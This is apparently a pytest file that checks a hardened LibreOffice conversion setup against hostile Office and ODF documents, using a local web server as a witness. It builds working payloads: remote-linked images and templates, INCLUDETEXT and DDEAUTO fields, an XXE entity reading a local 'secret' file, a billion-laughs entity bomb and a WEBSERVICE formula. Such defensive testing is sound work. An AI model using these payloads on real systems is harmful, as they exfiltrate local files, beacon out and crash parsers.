"""What a hostile Word file gets out of LibreOffice under guard, with a web server as witness.

The pre-check refuses these files before LibreOffice sees them; here it is left out, so that the
second wall is tried by itself.
"""

from __future__ import annotations

import http.server
import io
import threading

import pikepdf
import pytest

from avtalemaker.office import profile, running, starting
from avtalemaker.office.running import Fault, make
from wordfile import R, WordFile, field, outside, para, png

pytestmark = pytest.mark.libreoffice

DRAWING = (
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1800000" cy="1800000"/>'
    '<wp:docPr id="9" name="x"/><a:graphic><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
    '<pic:cNvPr id="9" name="x"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
    '<a:blip r:link="rIdOut"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>'
    '<a:xfrm><a:off x="0" y="0"/><a:ext cx="1800000" cy="1800000"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
    "</a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
OLE = (
    '<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="o" '
    'style="width:50pt;height:50pt"><v:imagedata r:href="rIdOut"/></v:shape>'
    '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
    'ProgID="Word.Document.12" ShapeID="o" DrawAspect="Content" r:id="rIdOut" '
    'UpdateMode="Always"/></w:object></w:r></w:p>'
)
MACRO = (
    '<?xml version="1.0"?><office:document '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.2" '
    'office:mimetype="application/vnd.oasis.opendocument.text"><office:body><office:text>'
    '<text:section text:name="s"><text:section-source xlink:href="{secret}.txt"/>'
    "<text:p>FODT</text:p></text:section></office:text></office:body></office:document>"
)


@pytest.fixture
def witness():
    """Return the address of a server on this machine, and what was asked of it."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()
            self.wfile.write(png())

        do_HEAD = do_OPTIONS = do_PROPFIND = do_GET  # noqa: N815 - the server's own names

        def log_message(self, *words):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def fetching(instruction: str) -> str:
    return f"<w:p>{field(instruction)}</w:p>"


def hostile(address: str, secret: str) -> dict[str, bytes]:
    """Return the hostile files by name; `secret` is a local address, without its ending."""

    def word(body, kind="", target="", **more):
        relations = outside(kind, target) if kind else ""
        return WordFile(body + para("Avtale"), relations=relations, **more).data()

    def main(change):
        file = WordFile(para("Avtale"))
        parts = file.parts()
        changed = change(parts["word/document.xml"].decode()).encode()
        return WordFile(para("Avtale"), more={"word/document.xml": changed}).data()

    html = f'<html><body>HTML<img src="{address}/h.png"><img src="{secret}.png"></body></html>'
    laughs = '<!DOCTYPE d [<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)
    )
    return {
        "remote picture": word(DRAWING, "image", f"{address}/picture.png"),
        "local picture": word(DRAWING, "image", f"{secret}.png"),
        "includepicture": word(
            f"<w:p>{field(f'INCLUDEPICTURE &quot;{address}/i.png&quot;')}</w:p>"
        ),
        "includetext": word(f"<w:p>{field(f'INCLUDETEXT &quot;{secret}.txt&quot;')}</w:p>"),
        "dde": word(f"<w:p>{field(f'DDEAUTO soffice &quot;{secret}.txt&quot; x')}</w:p>"),
        "chunk": word('<w:altChunk r:id="rIdOut"/>', "aFChunk", f"{address}/chunk.html"),
        "subdocument": word('<w:subDoc r:id="rIdOut"/>', "subDocument", f"{address}/sub.docx"),
        "object": word(OLE, "oleObject", f"{address}/ole.docx"),
        "template": word(
            "",
            settings='<w:attachedTemplate r:id="rIdT"/>',
            more={
                "word/_rels/settings.xml.rels": (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                    f'relationships"><Relationship Id="rIdT" Type="{R}/attachedTemplate" '
                    f'Target="{address}/t.dotm" TargetMode="External"/></Relationships>'
                ).encode()
            },
        ),
        "entity": main(
            lambda x: (
                f'<!DOCTYPE d [<!ENTITY e SYSTEM "{secret}.txt">]>' + x.replace("Avtale", "&e;")
            )
        ),
        "laughs": main(lambda x: f"{laughs}]>" + x.replace("Avtale", "&a9;")),
        "html": html.encode(),
        "sheet": f'=WEBSERVICE("{address}/ws"),=1+1\n'.encode(),
        "section": MACRO.format(secret=secret).encode(),
    }


def shown(pdf: bytes) -> tuple[int, str]:
    """Return how many pictures a PDF holds, and its text."""
    from pypdf import PdfReader

    with pikepdf.open(io.BytesIO(pdf)) as opened:
        pictures = [o for o in opened.objects if isinstance(o, pikepdf.Stream)]
        count = sum(o.get("/Subtype") == "/Image" for o in pictures)
    return count, "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)


@pytest.fixture
def secret(tmp_path):
    (tmp_path / "secret.png").write_bytes(png())
    (tmp_path / "secret.txt").write_text("TOP SECRET", encoding="utf-8")
    return (tmp_path / "secret").as_uri()


@pytest.mark.parametrize("network", [False, True])
def test_nothing_is_fetched_and_nothing_of_the_machine_is_shown(
    office, witness, secret, monkeypatch, network
):
    address, asked = witness
    if network:  # as on a machine where it cannot be taken away: the profile alone must do
        monkeypatch.setattr(starting, "_without_network", tuple)
    files = hostile(address, secret)
    made = dict(zip(files, make(office, list(files.values())), strict=True))
    assert asked == []
    never = {"html", "sheet", "section", "entity", "laughs"}
    assert {name for name, pdf in made.items() if pdf is Fault.NOTHING} >= never
    for name in files.keys() - never:
        pictures, text = shown(made[name])
        assert "Avtale" in text, name
        assert "SECRET" not in text, name
        if "picture" in name:
            assert pictures == 0, name


def test_the_witness_sees_what_happens_without_the_guard(office, witness, secret, monkeypatch):
    address, _asked = witness
    bare = profile.settings_xml().partition("<item")[0] + "</oor:items>"
    monkeypatch.setattr(running, "settings_xml", lambda: bare)
    (made,) = make(office, [hostile(address, secret)["local picture"]])
    assert shown(made)[0] > 0
